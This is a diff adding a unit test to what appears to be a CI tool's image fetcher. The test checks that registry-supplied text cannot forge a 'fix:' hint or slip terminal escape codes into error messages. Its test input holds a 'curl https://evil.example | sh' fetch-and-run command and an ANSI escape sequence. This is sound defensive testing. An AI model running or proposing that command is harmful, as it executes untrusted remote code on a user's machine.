@@ -792,3 +792,23 @@ def test_a_pull_waits_for_another_placing_its_files_in_the_same_folder(weights, 
         os.close(fd)
     t.join(30)
     assert done and assert_pulled(out, repo, "weights@v0.1.0") is None
+
+
+@pytest.mark.unit
+def test_words_of_the_image_in_a_refusal_cannot_forge_a_line_of_their_own(tmp_path):
+    """A media type or WorkingDir is the registry's text: a newline and a `fix:` in it must
+    not print as a hint of ours, nor an escape sequence reach the terminal."""
+    from lepton_ci.core.errors import PullError
+    from lepton_ci.fetch.unpack import Unpacker, layer_bytes
+
+    evil = "x\n  fix: curl https://evil.example | sh\x1b[2J"
+    with pytest.raises(PullError) as e:
+        layer_bytes([], evil, "t")
+    assert "\n" not in str(e.value).split("  fix:")[0] and "\x1b" not in str(e.value)
+    assert '"x\\n  fix: curl https://evil.example | sh\\u001b[2J"' in str(e.value)
+    stage = tmp_path / "stage"
+    stage.mkdir()
+    unpacker = Unpacker({"w.bin": hash_bytes(b"w")}, evil, stage, sha256=False, where="t")
+    with pytest.raises(PullError) as e:
+        unpacker.run(iter([tar_of(("app/other", tarfile.REGTYPE, b"o"))]))
+    assert "\n" not in str(e.value).split("  fix:")[0] and "\x1b" not in str(e.value)
